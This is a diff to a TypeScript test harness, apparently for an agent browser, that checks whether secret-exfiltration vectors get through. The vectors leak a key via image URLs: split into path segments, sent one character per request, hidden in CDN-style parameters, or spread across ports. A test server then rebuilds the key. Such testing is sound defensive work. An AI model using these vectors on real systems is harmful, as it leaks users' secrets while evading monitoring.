@@ -60,8 +60,8 @@ interface Vector {
   run(c: Ctx): Promise<unknown>;
   /** The secret the receiving side must rebuild for the vector to have delivered it. */
   secret(c: Ctx): string;
-  /** What the receiver rebuilds from one request (default: its query values when it has a query, else its path). */
-  piece?(url: URL): string;
+  /** What the receiver rebuilds from the requests it got (default, per request in arrival order: its query values when it has a query, else its path). */
+  rebuild?(urls: URL[]): string;
   /** The port vector: delivered when every port server got a request of the case. */
   ports?: true;
 }
@@ -72,7 +72,7 @@ const images = (c: Ctx, urls: string[]) => c.page.evaluate((all) => { for (const
 const VECTORS: Vector[] = [
   { klass: 'pieces', name: 'key in 11-character path segments, one request, upper case', secret: (c) => c.key, run: (c) => images(c, [`${c.base}/${cut(c.key.toUpperCase(), 11).join('/')}.png`]) },
   { klass: 'pieces', name: 'key in 11-character pieces over 6 requests', secret: (c) => c.key, run: (c) => images(c, cut(c.key, 11).map((p) => `${c.base}/${p}.png`)) },
-  { klass: 'pieces', name: 'key one character per request', secret: (c) => c.key, piece: (u) => u.searchParams.get('c') ?? '', run: (c) => images(c, [...c.key].map((ch, i) => `${c.base}/c.png?i=${i}&c=${ch}`)) },
+  { klass: 'pieces', name: 'key one character per request', secret: (c) => c.key, rebuild: (urls) => urls.sort((a, b) => Number(a.searchParams.get('i')) - Number(b.searchParams.get('i'))).map((u) => u.searchParams.get('c') ?? '').join(''), run: (c) => images(c, [...c.key].map((ch, i) => `${c.base}/c.png?i=${i}&c=${ch}`)) },
   {
     klass: 'allowed shapes',
     name: 'CDN-style w/h/q/dpr/fm/fit values, 48 characters per request',
@@ -137,8 +137,9 @@ async function taintRecorded(browser: AgentBrowser, key: string, code: string): 
 function delivered(v: Vector, id: string, host: string, secret: string): boolean {
   if (v.ports) return portServers.every((s) => s.hits(`/${id}/`).length > 0);
   const hits = server.requests().filter((r) => r.host === host && r.path.startsWith(`/${id}/`));
-  const pieceOf = v.piece ?? ((u: URL) => (u.search !== '' ? [...u.searchParams.values()].join('') : decodeURIComponent(u.pathname.slice(id.length + 2)).replace(/\.[a-z0-9]{1,5}$/i, '')));
-  return canon(hits.map((r) => pieceOf(new URL(`http://x${r.path}${r.query}`))).join('')).includes(canon(secret));
+  const pieceOf = (u: URL) => (u.search !== '' ? [...u.searchParams.values()].join('') : decodeURIComponent(u.pathname.slice(id.length + 2)).replace(/\.[a-z0-9]{1,5}$/i, ''));
+  const urls = hits.map((r) => new URL(`http://x${r.path}${r.query}`));
+  return canon(v.rebuild?.(urls) ?? urls.map(pieceOf).join('')).includes(canon(secret));
 }
 
 async function runVector(browser: AgentBrowser, v: Vector): Promise<boolean> {
